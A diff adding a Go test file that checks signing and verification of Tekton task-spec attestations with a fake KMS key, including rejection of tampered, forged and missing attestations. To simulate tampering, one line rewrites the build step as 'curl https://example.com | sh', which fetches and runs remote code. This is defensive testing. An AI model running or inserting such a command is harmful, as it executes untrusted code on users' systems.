@@ -0,0 +1,87 @@
+/*
+Copyright 2023 The Tekton Authors
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+
+package trustedresources
+
+import (
+	"context"
+	"crypto"
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"encoding/hex"
+	"errors"
+	"testing"
+
+	"github.com/sigstore/sigstore/pkg/signature"
+	fakekms "github.com/sigstore/sigstore/pkg/signature/kms/fake"
+	"github.com/tektoncd/pipeline/pkg/apis/pipeline/v1beta1"
+)
+
+func TestAttestSpec(t *testing.T) {
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatalf("failed to generate the key: %v", err)
+	}
+	ctx := context.WithValue(context.Background(), fakekms.KmsCtxKey{}, crypto.PrivateKey(key))
+	v, err := signature.LoadVerifier(key.Public(), crypto.SHA256)
+	if err != nil {
+		t.Fatalf("failed to load the verifier: %v", err)
+	}
+
+	spec := &v1beta1.TaskSpec{
+		Steps: []v1beta1.Step{{Name: "build", Image: "golang", Script: "go build ./..."}},
+	}
+	attestation, err := AttestSpec(ctx, spec, "fakekms://attest-spec")
+	if err != nil {
+		t.Fatalf("AttestSpec() = %v", err)
+	}
+	if attestation.KeyRef != "fakekms://attest-spec" {
+		t.Errorf("expected the attestation to reference the key, got %q", attestation.KeyRef)
+	}
+	if len(attestation.Digest["sha256"]) != 64 {
+		t.Errorf("expected a sha256 digest, got %v", attestation.Digest)
+	}
+	if err := VerifySpecAttestation(spec, attestation, v); err != nil {
+		t.Errorf("VerifySpecAttestation() = %v", err)
+	}
+
+	modified := spec.DeepCopy()
+	modified.Steps[0].Script = "curl https://example.com | sh"
+	if err := VerifySpecAttestation(modified, attestation, v); !errors.Is(err, ErrResourceVerificationFailed) {
+		t.Errorf("expected the attestation of another spec to fail verification, got %v", err)
+	}
+
+	forged := attestation.DeepCopy()
+	d, err := digest(modified)
+	if err != nil {
+		t.Fatal(err)
+	}
+	forged.Digest["sha256"] = hex.EncodeToString(d)
+	if err := VerifySpecAttestation(modified, forged, v); !errors.Is(err, ErrResourceVerificationFailed) {
+		t.Errorf("expected the forged attestation to fail verification, got %v", err)
+	}
+
+	if err := VerifySpecAttestation(spec, nil, v); !errors.Is(err, ErrResourceVerificationFailed) {
+		t.Errorf("expected a missing attestation to fail verification, got %v", err)
+	}
+}
+
+func TestAttestSpec_InvalidKeyRef(t *testing.T) {
+	if _, err := AttestSpec(context.Background(), &v1beta1.PipelineSpec{}, "unknownkms://key"); err == nil {
+		t.Error("expected an error signing with a key of an unknown KMS")
+	}
+}